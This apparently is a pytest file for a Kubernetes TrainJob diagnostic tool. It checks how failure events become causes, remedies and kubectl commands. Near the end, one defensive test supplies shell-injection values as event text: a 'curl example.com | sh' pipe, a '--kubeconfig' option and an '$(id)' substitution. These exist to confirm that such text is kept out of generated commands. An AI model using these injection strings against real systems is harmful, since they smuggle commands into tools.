            "kubectl get runtimeclasses",
            id="runtime-class",
        ),
        pytest.param(
            'pods "demo-node-0-0-abcde" is forbidden: maximum cpu usage per Container is 2, but limit is 4',
            "ask for what the LimitRange of the namespace allows",
            "kubectl describe limitrange",
            id="limit-range",
        ),
    ],
)
def test_pods_that_are_refused(message: str, remedy: str, command: str) -> None:
    """What admission has against pods is quoted, with what helps."""
    (cause,) = answer(train_job(), jobset(), JOB, refusal(f"Error creating: {message}")).causes
    assert (cause.reason, message in cause.message) == ("FailedCreate", True)
    assert remedy in cause.remedy
    assert cause.command.startswith(command)


@pytest.mark.parametrize(
    ("reason", "message", "remedy", "command"),
    [
        pytest.param(
            "FailedJobs",
            "jobset failed; pod demo-node-0-0-abcde: container trainer exited with code 1: lost pod other failed",
            "its log says why",
            "trainer logs demo --node demo-node-0-0-abcde -n default",
            id="words-about-a-pod",
        ),
        pytest.param(
            "FailedJobs",
            "jobset failed; pod demo-dataset-0-0-abcde: container dataset-initializer exited with code 137 (OOMKilled)",
            "raise the memory limit of container dataset-initializer in the runtime; a TrainJob",
            "trainer logs demo --node demo-dataset-0-0-abcde -c dataset-initializer",
            id="initializer",
        ),
        pytest.param(
            "FailedJobs",
            "jobset failed; pod demo-node-0-0-abcde failed: Evicted: The node was low on resource: memory",
            "if its node ran short of resources, request as much as it uses",
            "trainer logs demo",
            id="evicted-pod-of-an-earlier-version",
        ),
        pytest.param(
            "FailedJobs",
            "pod demo-node-0-0-abcde was evicted (EvictionByEvictionAPI: Eviction API: evicting); jobset failed",
            "the program is not the cause",
            "trainer logs demo",
            id="evicted",
        ),
        pytest.param(
            "FailedJobs",
            "pod demo-node-0-0-abcde was deleted, and not by its Job; jobset failed (first failed job: demo-node-0)",
            "somebody has deleted the pod",
            "trainer logs demo",
            id="deleted",
        ),
        pytest.param(
            "FailedJobs",
            "pod demo-node-0-0-abcde: container trainer exited with code 1; a process of it was killed (SIGKILL), its "
            "limit of memory is 2Gi; jobset failed",
            "most likely by the kernel for memory, since it used more memory than its limit: raise spec.trainer.",
            "trainer logs demo",
            id="killed-child",
        ),
        pytest.param(
            "DeadlineExceeded",
            "TrainJob was active for longer than spec.activeDeadlineSeconds (60 s)",
            "raise spec.activeDeadlineSeconds",
            "kubectl describe trainjob demo",
            id="deadline",
        ),
    ],
)
def test_failures(reason: str, message: str, remedy: str, command: str) -> None:
    """What the condition Failed says is the cause."""
    found = answer(train_job(condition("Failed", reason=reason, message=message)))
    (cause,) = found.causes
    assert (found.verdict, cause.reason) == (Verdict.FAILED, reason)
    assert message.endswith(cause.message.rpartition("; ")[2])
    assert remedy in cause.remedy
    assert cause.command.startswith(command)


@pytest.mark.parametrize(
    ("job", "objects", "verdict", "unread"),
    [
        pytest.param(train_job(state="Running"), (jobset(ready=1), running(0), running(1)), "running", (), id="runs"),
        pytest.param(
            train_job(state="Running"),
            (running(0), running(1)),
            "running",
            (Unread("jobsets", "forbidden"),),
            id="jobsets-are-secret",
        ),
        pytest.param(
            train_job(condition("Complete", reason="AllJobsCompleted"), state="Complete"),
            (),
            "succeeded",
            (),
            id="complete",
        ),
        pytest.param(
            train_job() | {"status": {"state": "Running", "conditions": [CREATED], "scale": SCALE}},
            (jobset(ready=1), running(0), waiting("ContainerCreating", "", 1)),
            "running",
            (),
            id="elastic",
        ),
    ],
)
def test_nothing_holds_it(job: Object, objects: tuple[Object, ...], verdict: str, unread: tuple[Unread, ...]) -> None:
    """Pods that run or have succeeded have no cause; an elastic training waits only for its minimum number of nodes."""
    found = answer(job, *objects, unread=unread)
    assert found.verdict == verdict
    assert found.causes == ()


def test_gangs_without_a_word_of_their_scheduler() -> None:
    """Pods that were just made are on their way."""
    made = {"creationTimestamp": "2026-01-01T00:59:55Z"} | MEMBER
    pods = (pod(index, metadata=made, spec={"nodeName": None}) for index in range(3))
    found = answer(train_job(), jobset(nodes=3), *pods, gang("coscheduling", minMember=3))
    assert [cause.reason for cause in found.causes] == ["Starting"]


def test_gangs_say_how_many_fit() -> None:
    """Of coscheduling those without a problem of their own fit, of Volcano those that it says."""
    for name, pods in (("gang-of-coscheduling", 3), ("gang-of-volcano", 3)):
        case = CASES[name]
        gang_cause = answer(case.job, *case.objects).causes[-1]
        assert f"needs {pods} pods at the same time: 3 exist, and at most 2 of them fit now" in gang_cause.message
        assert "1 Insufficient cpu" in gang_cause.message
        assert gang_cause.command.startswith("kubectl describe podgroups.scheduling.")


@pytest.mark.parametrize(
    ("job", "note"),
    [
        pytest.param(
            train_job(activeDeadlineSeconds=180),
            "it fails at 2026-01-01T01:01:00Z, in 60 s if it has not ended by then (spec.activeDeadlineSeconds)",
            id="deadline",
        ),
        pytest.param(
            train_job(condition("Complete"), ttlSecondsAfterFinished=180),
            "it is deleted at 2026-01-01T01:01:00Z, in 60 s (spec.ttlSecondsAfterFinished)",
            id="time-to-live",
        ),
    ],
)
def test_notes(job: Object, note: str) -> None:
    """Deadline and time to live are worth knowing, and hold nothing."""
    assert answer(job).notes == (note,)


def test_restarts() -> None:
    """How often it was started again is worth knowing, by cause."""
    restarts = {"disruptions": 2, "failures": 1, "maxRestarts": 3}
    assert answer(train_job() | {"status": {"restarts": restarts}}).facts == (
        "restarts: 2 disruptions, 1 failure of 3",
    )


@pytest.mark.parametrize(
    ("state", "facts"),
    [
        pytest.param(
            "Suspended", ("last checkpoint step 80, 1 min ago; 5 steps are to be done again",), id="suspended"
        ),
        pytest.param("Running", ("last checkpoint step 80, 1 min ago; 5 steps would be lost now",), id="runs"),
    ],
)
def test_checkpoint(state: str, facts: tuple[str, ...]) -> None:
    """The last checkpoint is worth knowing, too."""
    job = train_job(state=state)
    checkpoint = {"step": 80, "time": "2026-01-01T00:58:30Z"}
    job["status"]["trainerStatus"] = {"currentStep": 85, "lastUpdatedTime": MADE, "checkpoint": checkpoint}
    assert answer(job).facts == facts


@pytest.mark.parametrize(
    ("kind", "secret", "reasons"),
    [
        pytest.param("Job", "pods", ["Starting"], id="pods"),
        pytest.param("Job", "nodes", ["FailedCreate"], id="pods-are-known"),
        pytest.param("JobSet", "jobs", ["NoPods"], id="jobs"),
        pytest.param("JobSet", "pods", ["JobCreationFailed"], id="jobs-are-known"),
    ],
)
def test_old_refusals(kind: str, secret: str, reasons: list[str]) -> None:
    """An event that something was refused counts only if it is known that this is still missing."""
    jobs = (JOB,) if kind == "Job" else ()
    old = refusal("exceeded quota: team", kind)
    found = answer(train_job(), jobset(), *jobs, old, unread=(Unread(secret, "forbidden"),))
    assert [cause.reason for cause in found.causes] == reasons


def test_object_that_is_not_understood(monkeypatch: pytest.MonkeyPatch) -> None:
    """A step that an object makes fail is named with what could not be read, and the other steps have their say."""

    def fail(_: object) -> list[Cause]:
        raise TypeError("a mistake of ours")

    monkeypatch.setattr(walk, "gang_causes", fail)
    with capture_logs() as logs:
        found = answer(train_job(), jobset(nodes=1), waiting("ImagePullBackOff", "Back-off pulling image"))
    assert [cause.reason for cause in found.causes] == ["ImagePullBackOff"]
    why = "an object could not be understood (TypeError), which is a defect of trainer"
    assert found.unread == (Unread("some of the causes", why),)
    assert [(entry["event"], entry["object"]) for entry in logs] == [("could not explain", "TrainJob demo")]


@pytest.mark.parametrize(
    "message",
    [
        pytest.param('serviceaccount "a; curl example.com | sh" not found', id="shell"),
        pytest.param('serviceaccount "--kubeconfig=/tmp/a" not found', id="option"),
        pytest.param("exceeded quota: --kubeconfig=/tmp/a, requested: pods=1", id="option-for-a-quota"),
        pytest.param("failed quota: $(id): must specify limits.cpu for: trainer", id="substitution"),
    ],
)
def test_commands_have_no_hostile_names(message: str) -> None:
    """What an event names becomes a part of a command only if objects may have such a name."""
    (cause,) = answer(train_job(), jobset(), JOB, refusal(message)).causes
    assert cause.command == "kubectl describe job demo-node-0 -n default"
    assert cause.remedy == "correct what the message names; it goes on by itself then"


@pytest.mark.parametrize(
    "metadata",
    [
        pytest.param({"ownerReferences": []}, id="labels"),
        pytest.param({"labels": {JOBSET_UID: "uid-of-a-predecessor"}}, id="predecessor"),
    ],
)
def test_pods_of_others_say_nothing(metadata: Object) -> None:
    """Anybody may give a pod the labels of a JobSet, and pods may outlive theirs; the controller and the uid count."""
    status = container(BACK_OFF, last=ended(1), restarts=4)
    other = pod(metadata=metadata, phase="Running", containerStatuses=status)
    assert [cause.reason for cause in answer(train_job(), jobset(), other).causes] == ["NoPods"]


def test_pods_of_the_jobset_count() -> None:
    """Newer versions of JobSet write its uid on its pods."""
    own = pod(metadata={"labels": {JOBSET_UID: "uid-of-set"}}, containerStatuses=container(BACK_OFF, last=ended(1)))
    assert [cause.reason for cause in answer(train_job(), jobset(nodes=1), own).causes] == ["CrashLoopBackOff"]
